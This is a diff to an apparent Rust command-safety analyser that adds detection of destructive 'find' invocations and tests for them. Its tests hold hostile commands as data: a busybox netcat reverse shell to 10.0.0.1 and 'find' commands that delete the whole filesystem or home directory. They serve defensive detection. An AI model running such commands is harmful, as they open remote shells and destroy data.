@@ -451,6 +451,7 @@ impl<'t> Simple<'t> {
             _ if SHELLS.contains(&name) => self.check_shell(depth, facts),
             "rm" | "rmdir" | "unlink" | "shred" | "wipefs" => self.check_delete(facts),
             "dd" => self.check_dd(facts),
+            "find" => self.check_find(facts),
             _ if name.starts_with("mkfs") => facts.destructive = true,
             "cp" | "mv" | "install" | "ln" | "touch" | "tee" | "truncate" | "chown" | "chgrp"
             | "sed" | "mkdir" | "chattr" => self.check_writes(facts),
@@ -510,6 +511,27 @@ impl<'t> Simple<'t> {
         facts.destructive |= self.has_flag("--no-preserve-root");
         for operand in self.operands() {
             let path = normalize(operand);
+            facts.destructive |= path.is_destructive_target();
+            facts.system_write |= path.is_protected();
+        }
+    }
+
+    /// `find / -delete`, `find ~ -exec rm {} +`: the start paths are deleted.
+    fn check_find(&self, facts: &mut CommandFacts) {
+        let deletes = self.has_flag("-delete")
+            || self.args.windows(2).any(|w| {
+                matches!(w[0], "-exec" | "-execdir" | "-ok")
+                    && matches!(basename(w[1]), "rm" | "shred" | "unlink")
+            });
+        if !deletes {
+            return;
+        }
+        let starts = self
+            .args
+            .iter()
+            .take_while(|a| !a.starts_with(['-', '(', '!']));
+        for start in starts {
+            let path = normalize(start);
             facts.destructive |= path.is_destructive_target();
             facts.system_write |= path.is_protected();
         }
@@ -729,6 +751,10 @@ mod tests {
         assert!(analyse("bash").spawns_shell);
         assert!(analyse("busybox nc 10.0.0.1 4444 -e /bin/sh").reverse_shell);
         assert!(analyse("busybox sh").spawns_shell);
+        assert!(analyse("find / -xdev -type f -delete").destructive);
+        assert!(analyse("find ~ -name '*' -exec rm -f {} +").destructive);
+        assert!(!analyse("find build -name '*.o' -delete").destructive);
+        assert!(!analyse("find / -name '*.conf'").destructive);
         assert!(analyse("python3 -").runs_stdin);
         assert!(analyse("/usr/bin/python3 -u").runs_stdin);
         assert!(analyse("bash -s").runs_stdin);
